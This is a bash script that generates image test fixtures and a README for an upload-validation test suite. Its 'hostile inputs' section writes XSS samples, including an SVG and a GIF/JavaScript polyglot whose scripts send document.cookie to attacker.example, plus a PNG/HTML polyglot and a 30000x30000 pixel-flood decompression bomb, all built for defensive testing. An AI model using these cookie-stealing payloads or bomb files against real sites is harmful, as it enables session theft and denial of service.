#!/usr/bin/env bash
# Regenerates the image fixtures in __tests__/fixtures/ (and their README.md).
#
# Needs (Debian package names): imagemagick, webp, libavif-bin,
# libimage-exiftool-perl, gifsicle, python3; node + the project's node_modules
# (file-type) are optional and only used to fill the "file-type" column of the README.
#
# Deterministic as far as the tools allow: no timestamps are written into any file,
# random content uses fixed seeds, and encoders run single-threaded.
# Idempotent: it overwrites only the files listed below and leaves anything else
# in the fixtures folder alone.
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
OUT="$ROOT/__tests__/fixtures"
mkdir -p "$OUT"

# /usr/local/bin/convert may be a stand-in that shadows ImageMagick: always use the real one.
if [[ -x /usr/bin/magick ]]; then
  IM=(/usr/bin/magick)
  IDENTIFY=(/usr/bin/magick identify)
else
  IM=(/usr/bin/convert)
  IDENTIFY=(/usr/bin/identify)
fi
PYTHON="$(command -v python3)"

for tool in "${IM[0]}" cwebp avifenc exiftool gifsicle "$PYTHON"; do
  command -v "$tool" >/dev/null || { echo "missing tool: $tool" >&2; exit 1; }
done

TMP="$(mktemp -d)"
trap 'rm -rf "$TMP"' EXIT
# ImageMagick temp files (e.g. its symlinks for the SVG reader) go here too, and get removed.
export MAGICK_TMPDIR="$TMP"

# Keep ImageMagick from writing date:create/date:modify (PNG tEXt/tIME, TIFF DateTime).
IM_CLEAN=(-strip -define png:exclude-chunks=date,time)

# --------------------------------------------------------------------------------------
# Base picture: 64x48 smooth colour pattern computed with -fx (no RNG, fully reproducible).
"${IM[@]}" -size 64x48 xc: -colorspace sRGB \
  -channel R -fx 'i/w' \
  -channel G -fx 'j/h' \
  -channel B -fx '0.5+0.5*sin((i+2*j)/5)' +channel \
  "${IM_CLEAN[@]}" "PNG24:$TMP/base.png"

# --- photo.jpg: JPEG with EXIF (camera, date, GPS, orientation) ------------------------
"${IM[@]}" "$TMP/base.png" "${IM_CLEAN[@]}" -sampling-factor 4:2:0 -quality 90 "$TMP/photo.jpg"
exiftool -q -overwrite_original -n \
  -Make='FixtureCam' \
  -Model='FC-100 Test' \
  -Software='make-fixtures.sh' \
  -Artist='image-ingest test suite' \
  -ImageDescription='image-ingest test fixture' \
  -DateTimeOriginal='2021:06:15 12:34:56' \
  -CreateDate='2021:06:15 12:34:56' \
  -ModifyDate='2021:06:15 12:34:56' \
  -Orientation=6 \
  -ExifImageWidth=64 -ExifImageHeight=48 \
  -GPSVersionID='2 3 0 0' \
  -GPSLatitude=48.858370 -GPSLatitudeRef=N \
  -GPSLongitude=2.294481 -GPSLongitudeRef=E \
  -GPSAltitude=35 -GPSAltitudeRef=0 \
  "$TMP/photo.jpg"
cp "$TMP/photo.jpg" "$OUT/photo.jpg"

# --- photo.png --------------------------------------------------------------------------
"${IM[@]}" "$TMP/base.png" "${IM_CLEAN[@]}" "PNG24:$OUT/photo.png"

# --- anim.gif: 3 frames, looping -------------------------------------------------------
"${IM[@]}" "$TMP/base.png" "${IM_CLEAN[@]}" "$TMP/f1.gif"
"${IM[@]}" "$TMP/base.png" -flop "${IM_CLEAN[@]}" "$TMP/f2.gif"
"${IM[@]}" "$TMP/base.png" -negate "${IM_CLEAN[@]}" "$TMP/f3.gif"
gifsicle --no-warnings --loopcount=forever --delay 20 -O2 \
  "$TMP/f1.gif" "$TMP/f2.gif" "$TMP/f3.gif" >"$OUT/anim.gif"

# --- photo.webp ---------------------------------------------------------------------------
cwebp -quiet -q 80 -m 4 -metadata none "$TMP/base.png" -o "$OUT/photo.webp"

# --- photo.avif ---------------------------------------------------------------------------
avifenc -j 1 -c aom -s 6 --min 20 --max 30 -y 420 --ignore-exif --ignore-xmp --ignore-icc \
  "$TMP/base.png" "$TMP/photo.avif" >/dev/null
cp "$TMP/photo.avif" "$OUT/photo.avif"

# --- photo.tiff / photo.bmp (real images, outside the default allowlist) ----------------
"${IM[@]}" "$TMP/base.png" "${IM_CLEAN[@]}" -compress lzw "TIFF:$OUT/photo.tiff"
"${IM[@]}" "$TMP/base.png" "${IM_CLEAN[@]}" -type TrueColor "BMP3:$OUT/photo.bmp"

# --- large.jpg: ~1 MiB, 1600x1200, seeded plasma + noise, for benchmarks ----------------
"${IM[@]}" -seed 1234 -size 1600x1200 plasma:steelblue-orange \
  -attenuate 0.6 +noise Gaussian \
  "${IM_CLEAN[@]}" -sampling-factor 4:2:0 -quality 94 "$OUT/large.jpg"

# --- phone-*.jpg, phone.{png,webp,gif,avif}: tagged like phone photos, for the stripper -----
"$ROOT/scripts/make-strip-fixtures.sh"

# ======================================================================================
# Hostile / invalid inputs
# ======================================================================================

# --- script.svg: a real SVG with a <script> element ---------------------------------------
cat >"$OUT/script.svg" <<'EOF'
<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" viewBox="0 0 64 48">
  <rect width="64" height="48" fill="#3366cc"/>
  <circle cx="32" cy="24" r="16" fill="#ffcc00"/>
  <script type="text/javascript"><![CDATA[
    alert(document.domain);
    fetch('https://attacker.example/steal?c=' + encodeURIComponent(document.cookie));
  ]]></script>
</svg>
EOF

# --- page.html ----------------------------------------------------------------------------
cat >"$OUT/page.html" <<'EOF'
<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Not an image</title>
</head>
<body>
  <h1>Hello</h1>
  <script>alert(document.domain);</script>
</body>
</html>
EOF

# --- polyglot.png: valid PNG + HTML with <script> appended after IEND ---------------------
{
  cat "$OUT/photo.png"
  printf '<html><body><script>alert(document.domain)</script></body></html>\n'
} >"$OUT/polyglot.png"

# --- script.gif: GIF signature followed by JavaScript (not a valid GIF) -------------------
{
  printf 'GIF89a=1;alert(document.domain)//'
  printf '\x00\x01\x02\x03\xff\xfe\n'
  printf '/*\x01\x00\x01\x00\x80\x00\x00*/=1;fetch("https://attacker.example/"+document.cookie);//\n'
} >"$OUT/script.gif"

# --- truncated.png: photo.png cut in half -------------------------------------------------
png_size=$(wc -c <"$OUT/photo.png")
head -c $((png_size / 2)) "$OUT/photo.png" >"$OUT/truncated.png"

# --- pixel-flood.png: valid PNG, IHDR 30000x30000, ~110 KB on disk ------------------------
# 1-bit greyscale, all-black rows, streamed through zlib so memory stays small. Decoding it
# to RGBA would need 30000*30000*4 bytes = 3.6 GB.
"$PYTHON" - "$OUT/pixel-flood.png" <<'EOF'
import struct, sys, zlib

W = H = 30000
BIT_DEPTH, COLOR_TYPE = 1, 0  # 1-bit greyscale

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

row = b"\x00" + b"\x00" * ((W * BIT_DEPTH + 7) // 8)  # filter type 0 + packed pixels
comp = zlib.compressobj(9, zlib.DEFLATED, 15, 9)
parts = [comp.compress(row) for _ in range(H)]
parts.append(comp.flush())
idat = b"".join(parts)

with open(sys.argv[1], "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n")
    f.write(chunk(b"IHDR", struct.pack(">IIBBBBB", W, H, BIT_DEPTH, COLOR_TYPE, 0, 0, 0)))
    # Split IDAT into 64 KiB chunks, as encoders usually do.
    for i in range(0, len(idat), 65536):
        f.write(chunk(b"IDAT", idat[i:i + 65536]))
    f.write(chunk(b"IEND", b""))
EOF

# --- program.exe: minimal valid PE32 (i386, console) whose entry point is `ret` ----------
"$PYTHON" - "$OUT/program.exe" <<'EOF'
import struct, sys

FILE_ALIGN, SECT_ALIGN, IMAGE_BASE = 0x200, 0x1000, 0x400000
E_LFANEW = 0x80

# DOS header (64 bytes) + the classic DOS stub.
dos = bytearray(64)
struct.pack_into("<2sHHHHHHHHHHHHH", dos, 0, b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
struct.pack_into("<I", dos, 0x3C, E_LFANEW)
stub = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + b"This program cannot be run in DOS mode.\r\r\n$"
dos_part = bytes(dos) + stub
dos_part += b"\x00" * (E_LFANEW - len(dos_part))

text = b"\x31\xc0\xc3"  # xor eax, eax ; ret  -> exit code 0
text_raw = text + b"\x00" * (FILE_ALIGN - len(text))

NUM_SECTIONS = 1
SIZEOF_OPT = 224
coff = struct.pack("<HHIIIHH",
    0x014C,           # Machine: i386
    NUM_SECTIONS,
    0,                # TimeDateStamp (0 for reproducibility)
    0, 0,             # PointerToSymbolTable, NumberOfSymbols
    SIZEOF_OPT,
    0x0102)           # EXECUTABLE_IMAGE | 32BIT_MACHINE

SIZE_OF_HEADERS = FILE_ALIGN
SIZE_OF_IMAGE = SECT_ALIGN * 2
opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
    0x010B, 14, 0,             # Magic PE32, linker version
    FILE_ALIGN, 0, 0,          # SizeOfCode, SizeOfInitializedData, SizeOfUninitializedData
    SECT_ALIGN,                # AddressOfEntryPoint
    SECT_ALIGN,                # BaseOfCode
    0,                         # BaseOfData
    IMAGE_BASE, SECT_ALIGN, FILE_ALIGN,
    6, 0, 0, 0, 6, 0,          # OS / image / subsystem versions
    0,                         # Win32VersionValue
    SIZE_OF_IMAGE, SIZE_OF_HEADERS,
    0,                         # CheckSum
    3,                         # Subsystem: WINDOWS_CUI
    0x8100,                    # DllCharacteristics: NX_COMPAT | TERMINAL_SERVER_AWARE
    0x100000, 0x1000, 0x100000, 0x1000,  # stack/heap reserve/commit
    0,                         # LoaderFlags
    16)                        # NumberOfRvaAndSizes
opt += b"\x00" * (16 * 8)      # empty data directories
assert len(opt) == SIZEOF_OPT, len(opt)

section = struct.pack("<8sIIIIIIHHI",
    b".text", len(text), SECT_ALIGN, FILE_ALIGN, FILE_ALIGN,
    0, 0, 0, 0,
    0x60000020)                # CODE | EXECUTE | READ

headers = dos_part + b"PE\x00\x00" + coff + opt + section
headers += b"\x00" * (SIZE_OF_HEADERS - len(headers))
with open(sys.argv[1], "wb") as f:
    f.write(headers + text_raw)
EOF

# --- text.txt -----------------------------------------------------------------------------
cat >"$OUT/text.txt" <<'EOF'
This is a plain text file, not an image.
It is used to check that the service rejects data whose bytes match no known file type.
EOF

# ======================================================================================
# README.md: table of fixtures with size and file-type result
# ======================================================================================
FILES=(photo.jpg photo.png anim.gif photo.webp photo.avif photo.tiff photo.bmp large.jpg
  script.svg page.html polyglot.png script.gif truncated.png pixel-flood.png program.exe text.txt
  phone-o1.jpg phone-o3.jpg phone-o6.jpg phone-o8.jpg phone.png phone.webp phone.gif phone.avif)

declare -A HOW=(
  [photo.jpg]='ImageMagick `-fx` gradient/sine pattern 64x48, JPEG q90, then EXIF written with exiftool'
  [photo.png]='Same 64x48 pattern, ImageMagick, PNG24, stripped (no date/time chunks)'
  [anim.gif]='3 frames (pattern, mirrored, negated) assembled by gifsicle, 20 cs delay, loops forever'
  [photo.webp]='`cwebp -q 80 -metadata none` from the 64x48 pattern'
  [photo.avif]='`avifenc -c aom -s 6 --min 20 --max 30 -y 420` from the 64x48 pattern'
  [photo.tiff]='ImageMagick, LZW-compressed TIFF, 64x48'
  [photo.bmp]='ImageMagick, BMP3 (24-bit), 64x48'
  [large.jpg]='ImageMagick seeded plasma + Gaussian noise, 1600x1200, JPEG q94, stripped'
  [script.svg]='Hand-written SVG (rect + circle) with a `<script>` element'
  [page.html]='Hand-written HTML page with a `<script>`'
  [polyglot.png]='`photo.png` with an HTML document containing `<script>` appended after IEND'
  [script.gif]='`GIF89a=1;alert(document.domain)//` followed by a few binary bytes and more JS'
  [truncated.png]='First half of `photo.png` (`head -c`)'
  [pixel-flood.png]='Python + zlib: valid PNG, IHDR 30000x30000, 1-bit greyscale all black, correct CRCs'
  [program.exe]='Python: minimal PE32 i386 console executable (MZ + DOS stub, PE header, one .text section `xor eax,eax; ret`)'
  [text.txt]='Two lines of plain ASCII text'
  [phone-o1.jpg]='sharp (libvips sRGB ICC) 64x48 JPEG q90, then exiftool: EXIF (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=1), XMP, IPTC, COM'
  [phone-o3.jpg]='sharp (libvips sRGB ICC) 64x48 JPEG q90, then exiftool: EXIF (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=3), XMP, IPTC, COM'
  [phone-o6.jpg]='sharp (libvips sRGB ICC) 64x48 JPEG q90, then exiftool: EXIF (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=6), XMP, IPTC, COM'
  [phone-o8.jpg]='sharp (libvips sRGB ICC) 64x48 JPEG q90, then exiftool: EXIF (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=8), XMP, IPTC, COM'
  [phone.png]='sharp PNG with iCCP, then exiftool: eXIf (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=6), XMP in iTXt, tEXt Author/Comment'
  [phone.webp]='sharp WebP q80 with ICCP, then exiftool: EXIF (GPS, Make/Model, SerialNumber, OwnerName, Artist, Orientation=6) and XMP chunks'
  [phone.gif]='sharp, 3 frames looping, then exiftool: Comment Extension and XMP DataXMP Application Extension'
  [phone.avif]='sharp AVIF with colr ICC, then exiftool: Exif (GPS, Make/Model, SerialNumber, OwnerName, Artist) and XMP items'
)
declare -A WHY=(
  [photo.jpg]='Valid JPEG; EXIF (Make, Model, DateTimeOriginal, GPS, Orientation=6) for metadata-stripping / orientation tests'
  [photo.png]='Valid PNG'
  [anim.gif]='Valid animated GIF'
  [photo.webp]='Valid WebP (lossy, VP8)'
  [photo.avif]='Valid AVIF'
  [photo.tiff]='Real image whose type is NOT in the default allowlist'
  [photo.bmp]='Real image whose type is NOT in the default allowlist'
  [large.jpg]='~1 MiB payload for size limits and benchmarks'
  [script.svg]='Hostile: scriptable image type (stored XSS)'
  [page.html]='Hostile: HTML sent as an image'
  [polyglot.png]='Hostile: PNG/HTML polyglot, passes a magic-byte check'
  [script.gif]='Hostile: GIF signature but not a GIF; passes a magic-byte check'
  [truncated.png]='Invalid: PNG signature but cut off (no IEND, IDAT incomplete)'
  [pixel-flood.png]='Hostile: decompression bomb / pixel flood (900 M pixels declared)'
  [program.exe]='Hostile: executable, must be rejected'
  [text.txt]='Invalid: plain text, no magic bytes'
  [phone-o1.jpg]='Metadata stripping: phone-like JPEG, orientation 1'
  [phone-o3.jpg]='Metadata stripping: phone-like JPEG, orientation 3'
  [phone-o6.jpg]='Metadata stripping: phone-like JPEG, orientation 6'
  [phone-o8.jpg]='Metadata stripping: phone-like JPEG, orientation 8'
  [phone.png]='Metadata stripping: PNG carrying location and personal metadata'
  [phone.webp]='Metadata stripping: WEBP carrying location and personal metadata'
  [phone.gif]='Metadata stripping: GIF carrying location and personal metadata'
  [phone.avif]='Metadata stripping: AVIF carrying location and personal metadata'
)

NODE=""
if [[ -x "$ROOT/node_modules/.bin/node" ]]; then
  NODE="$ROOT/node_modules/.bin/node"
elif command -v node >/dev/null; then
  NODE="$(command -v node)"
fi

declare -A FT=()
if [[ -n "$NODE" && -d "$ROOT/node_modules/file-type" ]]; then
  while IFS=$'\t' read -r name result; do
    FT[$name]="$result"
  done < <(cd "$ROOT" && "$NODE" --input-type=module -e '
    import {fileTypeFromFile} from "file-type";
    import path from "node:path";
    const dir = process.argv[1];
    for (const f of process.argv.slice(2)) {
      const r = await fileTypeFromFile(path.join(dir, f));
      console.log(f + "\t" + (r ? `${r.ext} (${r.mime})` : "undefined"));
    }' "$OUT" "${FILES[@]}")
fi

# Format and size as ImageMagick sees them (first frame), or the start of its error message.
identify_summary() {
  local out rc=0
  out="$(cd "$OUT" && timeout 30 "${IDENTIFY[@]}" -format '%m %wx%h' "$1[0]" 2>&1)" || rc=$?
  if [[ $rc -eq 0 ]]; then
    echo "$out"
  else
    out="$(head -n1 <<<"$out" | sed -e 's/^[a-z]*: //' -e 's/ [`@].*//')"
    echo "fails (rc $rc${out:+: $out})"
  fi
}

{
  echo '# Test fixtures'
  echo
  echo 'Generated by `scripts/make-fixtures.sh` (run it from anywhere; it writes only the files below).'
  echo 'Do not edit by hand. "file-type" is the result of `fileTypeFromFile()` from the npm package'
  echo "file-type $(sed -n 's/^[[:space:]]*"version": "\(.*\)".*/\1/p' "$ROOT/node_modules/file-type/package.json" 2>/dev/null | head -1)."
  echo
  echo '| File | How it was made | Size (bytes) | file-type | ImageMagick `identify` | Purpose |'
  echo '| --- | --- | ---: | --- | --- | --- |'
  for f in "${FILES[@]}"; do
    size=$(wc -c <"$OUT/$f")
    echo "| \`$f\` | ${HOW[$f]} | $size | ${FT[$f]:-n/a} | $(identify_summary "$f") | ${WHY[$f]} |"
  done
  echo
  echo 'Notes:'
  echo
  echo '- `photo.jpg` is stored 64x48 with EXIF Orientation=6 (rotate 90° CW), so it displays as 48x64.'
  echo '  GPS: 48.858370 N, 2.294481 E, altitude 35 m. DateTimeOriginal 2021:06:15 12:34:56.'
  echo '- `pixel-flood.png` is a fully valid PNG; decoding it allocates ~900 MB (8-bit grey) to 3.6 GB (RGBA).'
  echo '- file-type only checks leading magic bytes, so `polyglot.png`, `script.gif` and `truncated.png`'
  echo '  are reported as their claimed image type; validation must go further than file-type.'
  echo '- The `identify` column was produced with the ImageMagick 6 policy of the machine that ran the'
  echo '  script (Debian default: width/height limit 16KP), which is why `pixel-flood.png` fails there.'
} >"$OUT/README.md"

echo "fixtures written to $OUT"
